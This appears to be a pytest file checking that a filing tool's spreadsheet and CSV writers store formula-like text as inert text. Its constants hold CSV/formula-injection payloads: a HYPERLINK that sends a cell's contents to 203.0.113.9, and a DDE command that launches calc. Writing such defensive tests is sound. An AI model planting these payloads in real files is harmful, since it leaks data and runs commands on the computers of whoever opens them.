"""Formula injection (issue 15): text that starts with = + - @ (a HYPERLINK that leaks a cell, a DDE
command) goes through every writer — new --from, score, report --format xlsx (and the 公开版),
the 自评报告 sheet, the batch summary and its CSV — and arrives as text, never as a formula."""

from __future__ import annotations

import copy
import csv
from pathlib import Path

import openpyxl
import pytest

from jixiao.cli import main
from jixiao.datafile import dump_filing
from jixiao.office import convert
from jixiao.samples import load_sample
from jixiao.textsafe import FORMULA_START
from tests.output_text import file_text, formulas

LEAK = '=HYPERLINK("http://203.0.113.9/?x="&B9,"点我")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [LEAK, DDE, "+1+1", "-1+2", "@SUM(1,2)", "=1+1"]
MARKERS = ("HYPERLINK", "cmd|", "1+1", "1+2", "SUM(1,2)")  # none of these is in a jixiao formula


def hostile_filing():
    """Return the sample with a payload in every kind of text a writer puts into a cell."""
    filing = copy.deepcopy(load_sample()[0])
    filing.unit = LEAK
    filing.t12.dept_name = LEAK
    filing.signers.filler = DDE
    filing.signers.head = "@SUM(1,2)"
    filing.signers.phone = "+1+1"
    filing.prose.problems = "\n".join(PAYLOADS)
    filing.prose.functions = DDE
    filing.t12.goal_expected = "-1+2"
    filing.spending.projects[0].name = "=1+1"
    filing.spending.balance_items[0].label = LEAK
    filing.t11.thrift_measures = DDE
    indicator = filing.t12.indicators[0]
    indicator.name, indicator.target, indicator.actual, indicator.deviation = LEAK, DDE, "+1+1", "@SUM(1,2)"
    project = filing.t13[0]
    project.name, project.department, project.implementer = DDE, LEAK, "-1+2"
    project.indicators[0].name = LEAK
    return filing


def assert_no_live_formula(path: Path) -> None:
    """Assert that no formula of the workbook ``path`` holds a payload and every payload is text."""
    live = [f for f in formulas(path) if any(marker in f for marker in MARKERS)]
    assert not live, live
    seen = set()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(FORMULA_START) and value in PAYLOADS:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, value)
                    seen.add(value)
    assert seen, "no payload reached the workbook"


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> dict[str, Path]:
    """Return every file the writers make from the hostile filing, by what wrote it."""
    folder = tmp_path_factory.mktemp("injection")
    data = folder / "收件" / "单位.json"
    dump_filing(hostile_filing(), data)
    book = folder / "收件" / "单位.xlsx"
    out = folder / "out"
    assert main(["new", "--from", str(data), "-o", str(book)]) == 0
    scored = out / "已计分.xlsx"
    assert main(["score", str(book), "-o", str(scored), "--brief"]) in (0, 1)
    files = {"new --from": book, "score": scored}
    for source in (data, book):
        for public in ((), ("--public",)):
            target = out / f"报告-{source.suffix[1:]}{'-公开' if public else ''}.xlsx"
            assert main(["report", str(source), "--format", "xlsx", *public, "-o", str(target)]) == 0
            files[f"report {source.suffix}{' --public' if public else ''}"] = target
    summary = out / "汇总.xlsx"
    assert main(["batch", str(data.parent), "-o", str(summary), "--csv", "-q", "-j", "1"]) in (0, 1)
    files["batch"] = summary
    return files


@pytest.mark.parametrize(
    "writer",
    [
        "new --from",
        "score",
        "report .json",
        "report .json --public",
        "report .xlsx",
        "report .xlsx --public",
        "batch",
    ],
)
def test_every_writer_stores_formula_like_text_as_text(written: dict[str, Path], writer: str) -> None:
    assert_no_live_formula(written[writer])


def test_the_payloads_reach_the_cells_unchanged(written: dict[str, Path]) -> None:
    book = openpyxl.load_workbook(written["new --from"])
    values = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert {LEAK, DDE, "+1+1", "-1+2", "@SUM(1,2)", "=1+1"} <= values
    report = openpyxl.load_workbook(written["report .json"])["自评报告"]
    lines = [row[0].value for row in report.iter_rows() if isinstance(row[0].value, str)]
    assert any(line.strip() == DDE for line in lines) and any(line.strip() == "=1+1" for line in lines)


def test_the_batch_csv_neutralises_formula_like_text(written: dict[str, Path]) -> None:
    summary = written["batch"]
    for name in ("汇总.csv", "汇总.findings.csv"):
        with (summary.parent / name).open(encoding="utf-8-sig") as handle:
            fields = [field for row in csv.reader(handle) for field in row]
        assert not [f for f in fields if f.startswith(FORMULA_START)], name
        assert any(f == "'" + LEAK for f in fields) or name.endswith("findings.csv")


@pytest.mark.libreoffice
def test_libreoffice_keeps_the_payloads_as_text(
    soffice: str, written: dict[str, Path], tmp_path: Path
) -> None:
    """Opened and saved again by an office suite, no payload has become a formula."""
    for writer in ("new --from", "report .xlsx --public"):
        again = convert(written[writer], "xlsx", tmp_path / writer.replace(" ", "_"))
        assert not [f for f in formulas(again) if any(marker in f for marker in MARKERS)]
        assert "HYPERLINK" in file_text(again) or writer.endswith("--public")
